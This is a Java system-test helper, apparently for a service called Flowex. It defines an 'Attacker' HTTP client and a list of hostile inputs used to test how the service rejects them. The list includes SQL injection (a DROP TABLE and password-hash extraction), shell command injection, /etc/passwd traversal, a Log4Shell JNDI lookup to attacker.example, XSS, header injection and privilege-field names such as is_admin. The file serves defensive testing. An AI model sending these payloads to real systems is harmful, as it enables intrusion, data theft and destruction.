package com.flowex.systemtests;

import com.fasterxml.jackson.core.json.JsonWriteFeature;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.json.JsonMapper;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;

/** A client that keeps to no contract. */
final class Attacker {

    private static final ObjectMapper ASCII =
            JsonMapper.builder().enable(JsonWriteFeature.ESCAPE_NON_ASCII).build();

    /** Texts that some program would read as code, as a path, as a header or as the end of a text. */
    static final List<String> PAYLOADS = List.of(
            "' OR '1'='1",
            "'; DROP TABLE identity.users; --",
            "1; SELECT pg_sleep(30)",
            "\" || (SELECT version()) || \"",
            "%' AND 1=CAST((SELECT password_hash FROM identity.users LIMIT 1) AS int)--",
            "$(touch /tmp/flowex-was-here)",
            "../../../../etc/passwd",
            "${jndi:ldap://attacker.example/a}",
            "{{7*7}}#{7*7}",
            "<script>alert(1)</script>",
            "x\r\nSet-Cookie: a=b\r\n\r\n<html>",
            "a\u0000b",
            "\ud800",
            "\u202e\u0009\ufeff",
            "-1",
            "9".repeat(40),
            "A".repeat(5_000));

    /** Returns a body in ASCII. */
    static String written(JsonNode body) {
        try {
            return ASCII.writeValueAsString(body);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** Fields that a client must not set, about itself or about its request. */
    static final List<String> FORBIDDEN_FIELDS = List.of(("account account_id balance created_at email_verified fee "
                    + "is_admin permissions role roles sequence tenant tenant_id __proto__")
            .split(" "));

    private static final HttpClient HTTP =
            HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();

    private final URI url;
    private final String token;

    /** @param token empty for an anonymous caller */
    Attacker(URI url, String token) {
        this.url = url;
        this.token = token;
    }

    static String encoded(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }

    /** @param body JSON in ASCII, or empty */
    HttpResponse<String> send(String method, String path, String body) {
        HttpRequest.Builder request = HttpRequest.newBuilder(url.resolve(path))
                .timeout(Duration.ofMinutes(2))
                .header("X-Rate-Tier", "benchmark")
                .header("Content-Type", "application/json")
                .method(
                        method,
                        body.isEmpty()
                                ? HttpRequest.BodyPublishers.noBody()
                                : HttpRequest.BodyPublishers.ofString(body, StandardCharsets.US_ASCII));
        if (!token.isEmpty()) {
            request.header("Authorization", "Bearer " + token);
        }
        try {
            return HTTP.send(request.build(), HttpResponse.BodyHandlers.ofString());
        } catch (IOException e) {
            throw new AssertionError("no answer to " + method + " " + path + " " + body, e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new AssertionError(e);
        }
    }
}
